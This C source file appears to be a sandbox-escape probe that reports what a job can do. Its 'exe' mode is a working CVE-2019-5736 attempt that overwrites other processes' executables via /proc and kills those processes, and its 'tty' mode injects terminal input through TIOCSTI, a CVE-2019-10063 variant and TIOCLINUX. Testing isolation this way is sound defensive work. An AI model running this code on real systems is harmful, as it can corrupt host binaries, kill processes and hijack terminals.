/*
 * What a job tries, as one static program; lines on standard output say what came of it.
 *
 *	probe exe SECONDS	CVE-2019-5736: opens the program of every process that does not run this one
 *				for writing, at once and through a descriptor kept from before, kills its
 *				owner and goes on; writes to what it gets. "tried N opened M"
 *	probe tty		pushes input into every terminal that it can reach: TIOCSTI, the same with
 *				upper bits set (CVE-2019-10063), TIOCLINUX. "FILE CALL ERRNO" each
 *	probe fds		"FD TARGET" for every descriptor that is open
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define KEPT_MAX 64

static unsigned long tried, opened;

static void overwrite(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	tried++;
	if (fd < 0)
		return;
	/* the sealed memfd opens where nobody runs it; what counts is whether it takes a byte */
	if (write(fd, "PWNED", 5) == 5)
		opened++;
	close(fd);
}

/* Keeps a descriptor of the program of `pid`, unless it is this one. */
static int keep_program(pid_t pid, const struct stat *own)
{
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	if (stat(path, &st) == 0 && st.st_dev == own->st_dev && st.st_ino == own->st_ino)
		return -1;
	overwrite(path);
	return open(path, O_PATH | O_CLOEXEC);
}

static int try_programs(unsigned int seconds)
{
	time_t end = time(NULL) + seconds;
	int kept[KEPT_MAX], count = 0;
	struct stat own;
	char path[64];

	if (stat("/proc/self/exe", &own) < 0)
		return 1;
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");

		for (struct dirent *entry; proc && (entry = readdir(proc));) {
			pid_t pid = atoi(entry->d_name);
			int fd = pid > 0 ? keep_program(pid, &own) : -1;

			if (fd < 0)
				continue;
			if (pid != 1 && pid != getppid())
				kill(pid, SIGKILL);
			if (count == KEPT_MAX)
				close(kept[--count]);
			kept[count++] = fd;
		}
		if (proc)
			closedir(proc);
		for (int i = 0; i < count; i++) {
			snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
			overwrite(path);
		}
	}
	printf("tried %s opened %lu\n", tried > 10 ? "many" : "few", opened);
	return 0;
}

static void push(const char *name, int fd)
{
	static const struct {
		const char *name;
		unsigned long call;
	} calls[] = {
		{ "TIOCSTI", TIOCSTI },
		{ "TIOCSTI+bits", TIOCSTI | 1ul << 32 },
		{ "TIOCLINUX", TIOCLINUX },
	};

	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
		char byte = i == 2 ? 3 /* paste the selection */ : 'x';

		if (syscall(SYS_ioctl, fd, calls[i].call, &byte) == 0)
			printf("%s %s done\n", name, calls[i].name);
		else
			printf("%s %s %s\n", name, calls[i].name, strerrorname_np(errno));
	}
}

static int push_all(void)
{
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);

	push("0", 0);
	push("1", 1);
	push("2", 2);
	if (fd < 0)
		printf("/dev/tty %s\n", strerrorname_np(errno));
	else
		push("/dev/tty", fd);
	return 0;
}

static int list_descriptors(void)
{
	for (int fd = 0; fd < 1024; fd++) {
		char path[64], target[4096];
		ssize_t length;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		length = readlink(path, target, sizeof(target) - 1);
		if (length < 0)
			continue;
		target[length] = '\0';
		target[strcspn(target, ":[")] = '\0';
		printf("%d %s\n", fd, target);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "exe"))
		return try_programs((unsigned int)atoi(argv[2]));
	if (argc == 2 && !strcmp(argv[1], "tty"))
		return push_all();
	if (argc == 2 && !strcmp(argv[1], "fds"))
		return list_descriptors();
	return 2;
}
